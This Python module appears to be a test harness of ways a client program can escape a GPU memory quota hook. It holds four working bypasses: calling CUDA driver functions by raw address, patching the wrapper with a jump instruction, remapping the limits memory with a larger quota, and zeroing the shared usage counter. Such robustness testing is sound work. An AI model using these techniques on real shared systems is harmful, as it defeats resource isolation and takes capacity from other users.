"""Ways around the hook, run inside a program (`client.py`) that wants out.

Each takes what it is told to by the driver's own functions, and none of them uses a right that a
user's program has not. Nothing but the standard library is needed.
"""

from __future__ import annotations

import ctypes
import mmap
import os
import platform
from typing import Any

_LIBC = ctypes.CDLL(None, use_errno=True)
_LIBC.mmap.restype = ctypes.c_void_p
_LIBC.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, *[ctypes.c_int] * 3, ctypes.c_long]
_LIBC.mprotect.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
_ALL = mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC
_FIXED = 0x10
# A jump to the address behind it.
_JUMPS = {"x86_64": (b"\x48\xb8", b"\xff\xe0"), "aarch64": (b"\x50\0\0\x58\0\x02\x1f\xd6", b"")}


def takes(cuda: Any, size: int) -> int:
    """A context and so much memory, from a library with the driver's functions; its answer."""
    context, pointer = ctypes.c_void_p(), ctypes.c_uint64()
    assert cuda.cuInit(0) == 0
    assert cuda.cuDevicePrimaryCtxRetain(ctypes.byref(context), 0) == 0
    assert cuda.cuCtxSetCurrent(context) == 0
    answer: int = cuda.cuMemAlloc_v2(ctypes.byref(pointer), ctypes.c_size_t(size))
    return answer


def by_address(driver: str, offsets: dict[str, int], size: int) -> int:
    """The driver's functions where they are in memory, without asking the loader for them."""
    ctypes.CDLL("libcuda.so.1")
    start = _mapped(driver)[0]
    functions = {name: ctypes.CFUNCTYPE(ctypes.c_int) for name in offsets}
    found = {name: functions[name](start + offset) for name, offset in offsets.items()}
    return takes(
        type("Found", (), {name: staticmethod(each) for name, each in found.items()}), size
    )


def by_a_patch(fence: str, driver: str, wrapper: int, real: int, size: int) -> int:
    """The wrapper begins with a jump to the driver's own function."""
    cuda = ctypes.CDLL("libcuda.so.1")
    address = _mapped(fence)[0] + wrapper
    page = address & ~(mmap.PAGESIZE - 1)
    assert _LIBC.mprotect(page, 2 * mmap.PAGESIZE, _ALL) == 0
    before, after = _JUMPS[platform.machine()]
    code = before + (_mapped(driver)[0] + real).to_bytes(8, "little") + after
    ctypes.memmove(address, code, len(code))
    return takes(cuda, size)


def by_other_limits(limits: str, offset: int, size: int) -> int:
    """Memory of one's own where the limits are mapped, with another quota in it."""
    cuda = ctypes.CDLL("libcuda.so.1")
    takes(cuda, 1 << 20)  # so that they are there
    start, end = _mapped(limits)
    content = bytearray(ctypes.string_at(start, end - start))
    content[offset : offset + 8] = (1 << 40).to_bytes(8, "little")
    flags = mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | _FIXED
    _LIBC.mmap(start, end - start, mmap.PROT_READ | mmap.PROT_WRITE, flags, -1, 0)
    ctypes.memmove(start, bytes(content), len(content))
    return takes(cuda, size)


def by_its_own_word(region: str, offset: int, size: int, step: int) -> int:
    """Bit by bit, and each time the region is made to say that nothing was taken."""
    cuda = ctypes.CDLL("libcuda.so.1")
    answer = 0
    for _ in range(size // step):
        answer = answer or takes(cuda, step)
        with open(region, "r+b") as file:  # noqa: PTH123 (as any program would)
            os.pwrite(file.fileno(), bytes(8), offset)
    return answer


def _mapped(path: str) -> tuple[int, int]:
    """Where a file begins and ends in memory."""
    with open("/proc/self/maps") as lines:  # noqa: PTH123 (the client has no time for pathlib)
        found = [line.split()[0].split("-") for line in lines if line.rstrip().endswith(path)]
    return int(found[0][0], 16), int(found[-1][1], 16)
